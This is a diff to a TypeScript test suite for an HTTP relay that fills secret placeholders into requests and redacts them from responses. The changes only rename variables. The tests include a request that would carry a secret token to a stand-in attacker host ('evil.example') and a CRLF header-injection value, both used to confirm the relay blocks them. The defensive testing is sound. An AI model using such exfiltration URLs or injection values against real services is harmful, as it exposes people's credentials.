@@ -28,20 +28,20 @@ describe("secrets in requests", () => {
     secrets: { token: { value, origin } },
   });
   const received = () => server.received.at(-1)?.toString() ?? "";
-  const hasNone = (heard: Heard) => {
-    const told = JSON.stringify([heard.head, heard.end, heard.failure]);
-    for (const form of forms) assert.ok(!told.includes(JSON.stringify(form).slice(1, -1)), `told: ${form}`);
+  const hasNone = (receivedMessages: Heard) => {
+    const reported = JSON.stringify([receivedMessages.head, receivedMessages.end, receivedMessages.failure]);
+    for (const form of forms) assert.ok(!reported.includes(JSON.stringify(form).slice(1, -1)), `told: ${form}`);
   };
 
   it("are put in where they stand, in the form of the place", async () => {
-    const heard = await tryRelay(world(undefined, 'a b"&')).ask({
+    const receivedMessages = await tryRelay(world(undefined, 'a b"&')).ask({
       method: "POST",
       url: `${server.origin}/{{secret:token}}?key={{secret:token}}`,
       header: { "X-Key": "{{secret:token}}", Authorization: "Basic {{base64:ada:{{secret:token}}}}" },
       cookie: { session: "{{secret:token}}" },
       body: { password: "{{secret:token}}", list: ["{{name}}"] },
     });
-    assert.equal(heard.failure, undefined);
+    assert.equal(receivedMessages.failure, undefined);
     const [line, ...rest] = received().split("\r\n");
     assert.equal(line, "POST /a%20b%22%26?key=a%20b%22%26 HTTP/1.1");
     assert.ok(rest.includes('X-Key: a b"&'));
@@ -53,21 +53,21 @@ describe("secrets in requests", () => {
   it("are shown by their names only, even where the server sends them back", async () => {
     answer = () =>
       `HTTP/1.1 200 ${canary}\r\nContent-Length: 0\r\nX-Echo: ${Buffer.from(canary).toString("latin1")}\r\nX-Echo: ${forms[4] ?? ""}\r\nLocation: /?${encodeURIComponent(canary)}\r\n\r\n`;
-    const heard = await tryRelay(world()).ask({
+    const receivedMessages = await tryRelay(world()).ask({
       method: "GET",
       url: `${server.origin}/?key={{secret:token}}`,
       header: { Authorization: "Basic {{base64:ada:{{secret:token}}}}" },
     });
-    assert.equal(heard.head?.sent.url, `${server.origin}/?key={{secret:token}}`);
+    assert.equal(receivedMessages.head?.sent.url, `${server.origin}/?key={{secret:token}}`);
     assert.ok(
-      heard.head?.sent.headers.some(([, value]) => value === "Basic {{base64:ada:{{secret:token}}}}"),
+      receivedMessages.head?.sent.headers.some(([, value]) => value === "Basic {{base64:ada:{{secret:token}}}}"),
     );
-    assert.deepEqual(heard.head?.headers.slice(1, 4), [
+    assert.deepEqual(receivedMessages.head?.headers.slice(1, 4), [
       ["X-Echo", "{{secret:token}}"],
       ["X-Echo", "{{base64:ada:{{secret:token}}}}"],
       ["Location", "/?{{secret:token}}"],
     ]);
-    hasNone(heard);
+    hasNone(receivedMessages);
   });
 
   it("are not shown in what a server sends back of them, wherever its pieces are cut", async () => {
@@ -84,10 +84,10 @@ describe("secrets in requests", () => {
         secrets: { token: { value, origin: target.origin } },
       });
       const header = { Authorization: "Basic {{base64:ada:{{secret:token}}}}" };
-      const heard = await ask({ method: "GET", url: target.origin, header });
+      const receivedMessages = await ask({ method: "GET", url: target.origin, header });
       const shown =
         '{"authorization":"Bearer {{secret:token}}","basic":"{{base64:ada:{{secret:token}}}}","near":"canary-value-98"}';
-      assert.equal(heard.text, shown, `cut at ${cut}`);
+      assert.equal(receivedMessages.text, shown, `cut at ${cut}`);
       await target.close();
     }
   });
@@ -98,16 +98,16 @@ describe("secrets in requests", () => {
       answer = () =>
         `HTTP/1.1 200 OK\r\nContent-Type: ${type}\r\nContent-Length: ${body.length}\r\n\r\n${body}`;
       const { ask } = tryRelay(world(undefined, "canary-value-99"));
-      const heard = await ask({ method: "GET", url: `${server.origin}/?{{secret:token}}` });
-      assert.equal(heard.body.toString("latin1"), "\x89PNG \xff {{secret:token}} \xff");
+      const receivedMessages = await ask({ method: "GET", url: `${server.origin}/?{{secret:token}}` });
+      assert.equal(receivedMessages.body.toString("latin1"), "\x89PNG \xff {{secret:token}} \xff");
     });
 
   it("leave a body in which there are none as it is, byte for byte", async () => {
     const body = Buffer.from(Array.from({ length: 1024 }, (_, at) => at % 256)).toString("latin1");
     answer = () => `HTTP/1.1 200 OK\r\nContent-Length: ${body.length}\r\n\r\n${body}`;
     const { ask } = tryRelay(world(undefined, "canary-value-99"));
-    const heard = await ask({ method: "GET", url: `${server.origin}/?{{secret:token}}` });
-    assert.equal(heard.body.toString("latin1"), body);
+    const receivedMessages = await ask({ method: "GET", url: `${server.origin}/?{{secret:token}}` });
+    assert.equal(receivedMessages.body.toString("latin1"), body);
   });
 
   it("aren't shown if a server spells them as PHP, Go, or HTML does, in the head, a redirect, or the body", async () => {
@@ -117,16 +117,16 @@ describe("secrets in requests", () => {
       request.startsWith("GET /first")
         ? `HTTP/1.1 302 Found\r\nContent-Length: 0\r\nLocation: /next?${spelled[3] ?? ""}\r\n\r\n`
         : `HTTP/1.1 200 ${spelled[1] ?? ""}\r\nContent-Length: ${spelled.join().length}\r\nX-Echo: ${spelled.join()}\r\n\r\n${spelled.join()}`;
-    const heard = await tryRelay(world(undefined, value)).ask({
+    const receivedMessages = await tryRelay(world(undefined, value)).ask({
       method: "GET",
       url: `${server.origin}/first?{{secret:token}}`,
       options: { redirect: "follow" },
     });
     const marks = spelled.map(() => "{{secret:token}}").join();
-    assert.equal(heard.head?.redirects[0]?.to, `${server.origin}/next?{{secret:token}}`);
-    assert.equal(heard.head?.statusText, "{{secret:token}}");
-    assert.deepEqual(heard.head?.headers[1], ["X-Echo", marks]);
-    assert.equal(heard.text, marks);
+    assert.equal(receivedMessages.head?.redirects[0]?.to, `${server.origin}/next?{{secret:token}}`);
+    assert.equal(receivedMessages.head?.statusText, "{{secret:token}}");
+    assert.deepEqual(receivedMessages.head?.headers[1], ["X-Echo", marks]);
+    assert.equal(receivedMessages.text, marks);
   });
 
   it("go to the origin that they belong to and to no other", async () => {
@@ -145,10 +145,10 @@ describe("secrets in requests", () => {
   });
 
   it("are not looked for where the request goes to an undeclared place", async () => {
-    let asked = 0;
-    const { ask } = tryRelay({ ...world(), secrets: new Proxy({}, { get: () => void asked++ }) });
+    let requested = 0;
+    const { ask } = tryRelay({ ...world(), secrets: new Proxy({}, { get: () => void requested++ }) });
     const { failure } = await ask({ method: "GET", url: "http://evil.example/{{secret:token}}" });
-    assert.deepEqual([failure?.code, asked], ["undeclared", 0]);
+    assert.deepEqual([failure?.code, requested], ["undeclared", 0]);
   });
 
   it("have to be there", async () => {
@@ -170,9 +170,9 @@ describe("secrets in requests", () => {
   it("that would end a header are not sent, and the failure does not tell them", async () => {
     const { ask } = tryRelay(world(undefined, "first\r\nX-Injected: 1"));
     const before = server.sockets.length;
-    const heard = await ask({ method: "GET", url: server.origin, header: { "X-Key": "{{secret:token}}" } });
-    assert.deepEqual([heard.failure?.code, server.sockets.length], ["malformed", before]);
-    assert.ok(!JSON.stringify(heard.failure).includes("Injected"));
+    const receivedMessages = await ask({ method: "GET", url: server.origin, header: { "X-Key": "{{secret:token}}" } });
+    assert.deepEqual([receivedMessages.failure?.code, server.sockets.length], ["malformed", before]);
+    assert.ok(!JSON.stringify(receivedMessages.failure).includes("Injected"));
   });
 
   it("that look like a mark are not opened again", async () => {
